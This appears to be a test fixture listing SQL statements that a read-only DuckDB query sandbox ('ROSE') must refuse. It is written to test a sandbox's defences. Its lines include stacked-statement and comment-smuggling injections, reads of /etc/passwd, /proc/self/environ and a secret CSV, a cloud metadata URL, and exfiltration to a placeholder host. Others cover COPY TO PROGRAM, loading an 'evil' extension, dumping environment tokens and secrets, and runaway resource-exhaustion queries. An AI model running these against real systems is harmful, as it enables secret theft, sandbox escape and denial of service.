-- Statements that ROSE must refuse, or stop at a limit, one to a line. {root} is the ledger's folder, {outside} the
-- folder around it, which has secret.csv. Longer and odder statements are in ledger/hostile.py.

-- Writes, and statements that are no SELECT.
SELECT 1; DROP VIEW lease
SELECT 1) UNION ALL (SELECT 2
SELECT 1) TO '{outside}/out.csv' --
INSERT INTO lease VALUES (1)
DELETE FROM lease
UPDATE lease SET step = 1
DROP VIEW lease
CREATE TABLE t AS SELECT 1
CREATE OR REPLACE TEMP VIEW stored_event AS SELECT 1
WITH gone AS (DELETE FROM lease RETURNING *) SELECT * FROM gone
SELECT * FROM (INSERT INTO lease VALUES (1) RETURNING *)
COPY lease TO '{outside}/out.csv'
COPY (SELECT 1) TO '{root}/live/w/000000/x.parquet' (FORMAT parquet)
EXPORT DATABASE '{outside}/dump'
ATTACH '{outside}/other.duckdb'
INSTALL httpfs
SET lock_configuration = false
SET enable_external_access = true
RESET max_execution_time
PRAGMA profiling_output = '{outside}/profile'
EXPLAIN ANALYZE SELECT 1
CHECKPOINT
SELECT * FROM checkpoint()
PREPARE x AS SELECT 1

-- Files, and what lies beside the views.
SELECT * FROM read_csv('{outside}/secret.csv')
SELECT * FROM '{outside}/secret.csv'
SELECT * FROM '{outside}/secret.csv', (WITH "{outside}/secret.csv" AS (SELECT 1) SELECT 2)
WITH a AS (FROM '{outside}/secret.csv'), "{outside}/secret.csv" AS (SELECT 1) FROM a
SELECT content FROM read_text('{outside}/secret.csv')
SELECT content FROM read_blob('{root}/../secret.csv')
SELECT content FROM read_text('{root}/live/../../secret.csv')
SELECT (SELECT max(content) FROM read_text('{outside}/secret.csv')) FROM lease WHERE step IN (SELECT 1)
SELECT * FROM system.main.read_text('{outside}/secret.csv')
SELECT * FROM sniff_csv('{outside}/secret.csv')
SELECT * FROM glob('{outside}/*')
SELECT * FROM glob('{root}/**')
SELECT filename FROM read_parquet('{root}/live/*/*/*.parquet', filename = true)
SELECT * FROM parquet_metadata('{root}/live/*/*/*.parquet')
SELECT * FROM read_text('{root}/logs/**')
SELECT * FROM read_csv('https://example.invalid/x.csv')
SELECT * FROM query('COPY (SELECT 1) TO ''{outside}/out.csv''')
SELECT * FROM query_table('{outside}/secret.csv')
SELECT * FROM histogram('{outside}/secret.csv', password)
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
SELECT * FROM duckdb_settings()
SELECT current_setting('temp_directory')
SELECT * FROM duckdb_secrets()
SELECT * FROM pragma_database_list
SELECT * FROM information_schema.tables
SELECT * FROM pragma_platform()
SELECT getenv('HOME')
SELECT * FROM duckdb_logs()
SELECT write_log('x')
SELECT sleep_ms(3600000)
SELECT * FROM mine
SELECT * FROM arrow_scan(1, 2, 3)

-- Work without an end.
SELECT count(*) FROM range(10000000) a, range(10000000) b WHERE a.range * b.range % 7 = 3
SELECT count(*) FROM event a, event b, event c, range(1000000000000) d WHERE a.seq + b.seq + c.seq + d.range % 7 < 0
SELECT count(*) FROM generate_series(1, 1000000000000)
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
WITH RECURSIVE t(n) AS (SELECT repeat('x', 100000) UNION ALL SELECT n || n FROM t) SELECT count(*) FROM t
SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))
SELECT repeat('9', 10000000)::BIGNUM
SELECT list_reduce(range(100000000), lambda a, b: (a + b) % 7)
SELECT length(repeat('x', 4000000000))
SELECT printf('%1000000000d', 1)
SELECT string_agg(repeat('x', 1000000), '') FROM range(100000)
SELECT len(range(1000000000))
SELECT regexp_extract_all(repeat('a', 100000000), 'a')
SELECT map(range(50000000), range(50000000))
SELECT strftime(TIMESTAMP '2020-01-01', repeat('%c', 100000000))
SELECT * FROM range(100000000000) t(i) ORDER BY hash(i)
SELECT count(DISTINCT i) FROM range(1000000000) t(i)
SELECT repeat('x', 1000000) FROM range(1000)

-- Other statements.
CREATE SCHEMA mine
CREATE SEQUENCE s
CREATE MACRO steal() AS TABLE SELECT * FROM read_csv('{outside}/secret.csv')
CREATE TEMP MACRO count(x) AS 0
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE OR REPLACE PERSISTENT SECRET s (TYPE http)
ALTER VIEW lease RENAME TO leases
TRUNCATE lease
MERGE INTO lease USING lease AS l ON true WHEN MATCHED THEN DELETE
VACUUM
FORCE CHECKPOINT
DETACH ledger
USE memory
ATTACH ':memory:' AS m
ATTACH '{root}/ledger.duckdb' AS w (READ_WRITE)
ATTACH 'https://example.invalid/x.duckdb' AS far
ATTACH 'host=example.invalid' AS p (TYPE postgres)
COPY FROM DATABASE ledger TO memory
COPY lease FROM '{outside}/secret.csv'
COPY (SELECT 1) TO '/dev/stdout'
COPY (SELECT 1) TO PROGRAM 'touch {outside}/out'
COPY (SELECT 1) TO '{root}/ledger.duckdb' (FORMAT csv)
COPY (SELECT '{}') TO '{root}/heads/w.json' (FORMAT csv, HEADER false)
IMPORT DATABASE '{outside}/dump'
LOAD httpfs
LOAD '{outside}/evil.duckdb_extension'
INSTALL httpfs FROM 'http://example.invalid'
UPDATE EXTENSIONS
SET threads = 1000
SET memory_limit = '1TB'
SET max_execution_time = 3600000
SET allowed_directories = ['/']
SET allowed_paths = ['{outside}/secret.csv']
SET temp_directory = '{outside}/spill'
SET secret_directory = '{outside}'
SET allow_unsigned_extensions = true
SET max_expression_depth = 1000000
SET log_query_path = '{outside}/log'
SET VARIABLE v = (SELECT content FROM read_text('{outside}/secret.csv'))
PRAGMA database_list
PRAGMA enable_profiling
PRAGMA storage_info('lease')
PRAGMA import_database('{outside}/dump')
PRAGMA enable_verification
CALL enable_logging('QueryLog', storage = 'file')
BEGIN
COMMIT
PREPARE x AS INSERT INTO lease VALUES (1)
EXECUTE x
SELECT ?
SELECT $path
SELECT * FROM read_text($path)
EXPLAIN (FORMAT json) SELECT * FROM lease
EXPLAIN ANALYZE DELETE FROM lease
EXPLAIN ANALYZE COPY (SELECT 1) TO '{outside}/out.csv'
SHOW TABLES
COMMENT ON VIEW lease IS 'x'
SELECT 1 AS a INTO t
GRANT ALL ON lease TO PUBLIC

-- A second statement, or a way out of the subselect, behind quotes, comments and odd characters.
SELECT 1; SELECT 2
SELECT '--'; DROP VIEW lease --'
SELECT ';'; DROP VIEW lease
SELECT $$;$$; DROP VIEW lease
SELECT $a$ $$ ; $a$; DROP VIEW lease
SELECT E'\'; DROP VIEW lease; --
SELECT ''';'; DROP VIEW lease
SELECT 1 AS ";"; DROP VIEW lease
;; DROP VIEW lease
SELECT 1 /* ; DROP VIEW lease
SELECT 1 /* */ */; DROP VIEW lease
SELECT 1 /* /* */ ; DROP VIEW lease */; DROP VIEW lease
SELECT 1); DROP VIEW lease; SELECT * FROM (SELECT 1
SELECT 1) AS a, (FROM read_text('{outside}/secret.csv')
SELECT 1) POSITIONAL JOIN read_text('{outside}/secret.csv') --
SELECT 1 /*) UNION ALL*/ ) UNION ALL (SELECT 2
SELECT 1； DROP VIEW lease
SELECT * FROM ‘{outside}/secret.csv’
DROP VIEW lease
DR​OP VIEW lease
SELECT 1 ‮; esael WEIV PORD
﻿DROP VIEW lease
SELECT * FROM U&"\002Fetc\002Fpasswd"
SELECT * FROM read_text(E'\x2fetc\x2fpasswd')
SELECT * FROM read_text('/etc/' || 'passwd')

-- Statements inside a query.
WITH m AS (MERGE INTO lease USING lease l ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m
WITH c AS (COPY lease TO '{outside}/out.csv') SELECT 1
WITH c AS (CREATE TABLE t AS SELECT 1) SELECT 1
SELECT (WITH d AS (DELETE FROM lease RETURNING 1) SELECT count(*) FROM d)
SELECT 1 WHERE EXISTS (DELETE FROM lease RETURNING 1)
WITH a AS (SELECT 1) DELETE FROM lease
WITH a AS (SELECT 1) COPY a TO '{outside}/out.csv'
SELECT * FROM (COPY lease TO '{outside}/out.csv')
SELECT * FROM (ATTACH '{outside}/other.duckdb')
SELECT * FROM (SHOW TABLES)
SELECT * FROM (CALL pragma_version())
SELECT * FROM (EXPLAIN SELECT 1)

-- Files again, by every function and in every place of a query.
DESCRIBE SELECT * FROM read_csv('{outside}/secret.csv')
SUMMARIZE '{outside}/secret.csv'
SELECT * FROM read_json('{outside}/secret.csv')
SELECT * FROM read_text(['{outside}/secret.csv', '/etc/passwd'])
SELECT * FROM read_text('{outside}/**/*.csv')
SELECT * FROM parquet_kv_metadata('{root}/live/*/*/*.parquet')
SELECT * FROM read_duckdb('{root}/ledger.duckdb')
SELECT * FROM sqlite_scan('{outside}/other.db', 't')
SELECT * FROM postgres_scan('host=example.invalid', 'public', 't')
SELECT * FROM '{root}/ledger.json'
SELECT content FROM read_text('~/.config/rose/ledger.key')
SELECT content FROM read_text('/proc/self/environ')
SELECT content FROM read_blob('/proc/self/mem')
SELECT * FROM read_csv('/dev/stdin')
SELECT count(*) FROM read_blob('/dev/zero')
SELECT * FROM read_text('file:///etc/passwd')
SELECT * FROM 's3://bucket/x.parquet'
SELECT * FROM 'hf://datasets/x/y.parquet'
SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')
SELECT * FROM read_csv('https://secret.example.invalid/' || (SELECT max(lease_id) FROM lease))
SELECT * FROM '{root}/live/w/000000/../../../ledger.json'
SELECT * FROM READ_TEXT('{outside}/secret.csv')
SELECT * FROM "read_text"('{outside}/secret.csv')
SELECT * FROM ledger.main.read_text('{outside}/secret.csv')
SELECT read_text('{outside}/secret.csv')
SELECT * FROM lease, LATERAL (SELECT * FROM read_text('{outside}/secret.csv'))
SELECT * FROM lease POSITIONAL JOIN '{outside}/secret.csv'
SELECT * FROM lease ASOF JOIN '{outside}/secret.csv' AS s ON lease.step >= s.password
SELECT 1 UNION ALL BY NAME SELECT content FROM read_text('{outside}/secret.csv')
PIVOT '{outside}/secret.csv' ON password IN ('a') USING count(*)
SELECT 1 ORDER BY (SELECT max(content) FROM read_text('{outside}/secret.csv'))
SELECT * FROM range(9) LIMIT (SELECT length(content) FROM read_text('{outside}/secret.csv'))
SELECT count(*) FROM lease HAVING (SELECT count(*) FROM read_text('{outside}/secret.csv')) > 0
SELECT sum(step) OVER (ORDER BY (SELECT max(content) FROM read_text('{outside}/secret.csv'))) FROM lease
VALUES ((SELECT content FROM read_text('{outside}/secret.csv')))
SELECT * FROM '{outside}/secret.csv' TABLESAMPLE 10 ROWS
TABLE '{outside}/secret.csv'
FROM "{outside}/secret.csv"
FROM ledger."{outside}/secret.csv"
WITH RECURSIVE r AS (SELECT content FROM read_text('{outside}/secret.csv') UNION ALL SELECT content FROM r WHERE false) FROM r
SELECT * FROM '{outside}/secret.csv', (WITH RECURSIVE "{outside}/secret.csv" AS (SELECT 1) FROM "{outside}/secret.csv")
SELECT * FROM query_table(['lease', 'turn'])
SELECT * FROM seq_scan('lease')

-- Statements in texts, the environment, and what the system tells.
SELECT * FROM python_map_function(1, 2)
SELECT * FROM repeat_row(1, num_rows = 1000000000000)
SELECT json_serialize_plan('SELECT * FROM read_csv(''{outside}/secret.csv'')')
SELECT json_serialize_plan('SELECT current_setting(''allowed_directories'')', optimize := true)
SELECT * FROM json_execute_serialized_sql('{"statements":[]}')
SELECT GETENV('ROSE_LEDGER_TOKEN')
SELECT "getenv"('HOME')
SELECT system.main.getenv('HOME')
SELECT 'HOME'.getenv()
SELECT list_transform(['HOME'], lambda x: getenv(x))
SELECT * FROM unnest([getenv('HOME')])
SELECT COLUMNS(c -> getenv(c) IS NULL) FROM lease
WITH e AS (SELECT getenv('HOME') AS h) SELECT h FROM e
SELECT current_setting('allowed_directories')
SELECT * FROM duckdb_secrets(redact = false)
SELECT * FROM duckdb_databases()
SELECT sql FROM duckdb_views()
SELECT * FROM duckdb_views
SELECT * FROM system.main.duckdb_settings()
SELECT * FROM "duckdb_settings"()
SELECT * FROM information_schema.columns
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM sqlite_master
SELECT current_query()
SELECT txid_current()
SELECT nextval('s')
SELECT vector_type(step) FROM lease
SELECT * FROM enable_logging()

-- Work without an end, by other functions.
SELECT sleep_ms(1000) FROM range(1000)
SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '200000-01-01', INTERVAL 1 SECOND)
SELECT sum((SELECT count(*) FROM range(a.range) b WHERE b.range % 7 = a.range % 5)) FROM range(10000000) a
WITH RECURSIVE t(k, n) USING KEY (k) AS (SELECT 1, 1::HUGEINT UNION SELECT k, n + 1 FROM t) SELECT * FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + (WITH RECURSIVE u(m) AS (SELECT 1 UNION ALL SELECT m + 1 FROM u WHERE m < 100000) SELECT max(m) FROM u) FROM t) SELECT count(*) FROM t
SELECT list_transform(range(100000), lambda x: list_sum(list_transform(range(100000), lambda y: x * y % 7)))
SELECT list_sort(list_transform(range(100000000), lambda x: hash(x)))
SELECT len(flatten(list_transform(range(100000), lambda x: range(10000))))
SELECT list_dot_product(range(200000000)::DOUBLE[], range(200000000)::DOUBLE[])
SELECT length(to_json(range(500000000))::VARCHAR)
SELECT list(i ORDER BY hash(i)) FROM range(10000000000) t(i)
SELECT median(hash(i)) FROM range(10000000000) t(i)
SELECT max(i, 900000) FROM range(10000000000) t(i)
SELECT length(regexp_replace(repeat('a', 100000000), 'a', 'bbbbbbbbbb', 'g'))
SELECT length(hex(repeat('x', 1000000000)))
SELECT jaro_winkler_similarity(repeat('ab', 50000000), repeat('ba', 50000000))
SELECT max(sha256(repeat(i::VARCHAR, 100000))) FROM range(100000000) t(i)
SELECT length((repeat('9', 1000000)::BIGNUM + repeat('9', 1000000)::BIGNUM)::VARCHAR)
SELECT json_structure(repeat('[', 10000000) || repeat(']', 10000000))
SELECT json_extract(repeat('{"a":', 5000000) || '1' || repeat('}', 5000000), '$..a')
SELECT json_keys('{' || string_agg('"' || i || '":1', ',') || '}') FROM range(100000000) t(i)
SELECT count(*) FROM json_tree((SELECT to_json(range(100000000))))
SELECT max(len(l)) FROM (SELECT list(i) OVER (ORDER BY i ROWS UNBOUNDED PRECEDING) AS l FROM range(10000000) t(i))
SELECT max(c) FROM (SELECT count(DISTINCT i % 99991) OVER (ORDER BY i ROWS 1000000 PRECEDING) AS c FROM range(100000000) t(i))
SELECT count(*) FROM (SELECT count(*) FROM range(100000) t(i) GROUP BY CUBE (i % 2, i % 3, i % 5, i % 7, i % 11, i % 13, i % 17, i % 19, i % 23, i % 29, i % 31, i % 37))
SELECT count(*) FROM range(10000000000) a JOIN range(10000000000) b ON hash(a.range) = hash(b.range)
SELECT count(*) FROM range(10000000000) a ASOF JOIN range(10000000000) b ON a.range >= b.range
SELECT * FROM (PIVOT (SELECT i, i % 90000 AS k FROM range(100000000) t(i)) ON k IN (1, 2, 3) USING list(i))
SELECT count(*) FROM (UNPIVOT (SELECT i AS a, i AS b, i AS c FROM range(10000000000) t(i)) ON a, b, c)
SELECT count(*) FROM (SELECT unnest(range(1000000)) FROM range(10000000))
WITH a AS (SELECT * FROM range(1024)), b AS (FROM a, a x), c AS (SELECT 1 FROM b, b x), d AS (SELECT 1 FROM c, c x) SELECT count(*) FROM d, d x WHERE random() > 2
SELECT repeat('x', 400000) || i FROM range(100000) t(i)
SELECT range(300000000)
SELECT * FROM (SELECT repeat('x', 40000000) AS a, repeat('y', 40000000) AS b, repeat('z', 40000000) AS c), range(3)
SELECT length(format('{:>2000000000}', 'x'))
SELECT bit_count(bitstring('1', 2000000000)) + bit_count(bitstring('1', 2000000001))
SELECT count(*) FROM (SELECT i, count(*) FROM range(10000000000) t(i) GROUP BY i)
SELECT count(*) FROM (SELECT i FROM range(10000000000) t(i) EXCEPT SELECT i * 2 FROM range(10000000000) t(i))
SELECT count(*) FROM (SELECT i FROM range(100000000000000) t(i) USING SAMPLE 900000 ROWS)

-- Functions and files in clauses that a check could pass over, replaced databases, and functions that keep a state.
SELECT 1) LIMIT ALL --
CREATE INDEX i ON lease (step)
ATTACH OR REPLACE ':memory:' AS ledger
SELECT step FROM lease QUALIFY (SELECT count(*) FROM read_text('{outside}/secret.csv')) > 0
SELECT ARRAY(SELECT content FROM read_text('{outside}/secret.csv'))
SELECT count(*) FILTER (WHERE EXISTS (FROM read_text('{outside}/secret.csv'))) FROM lease
SELECT CASE WHEN (SELECT content FROM read_text('{outside}/secret.csv')) > 'a' THEN 1 END
UNPIVOT '{outside}/secret.csv' ON COLUMNS(*) INTO NAME n VALUE v
SELECT * FROM lease JOIN range(1) r ON getenv('HOME') <> ''
SELECT try(getenv('HOME'))
SELECT setseed(0.5)
SELECT * FROM duckdb_external_file_cache()
SELECT * FROM duckdb_variables()
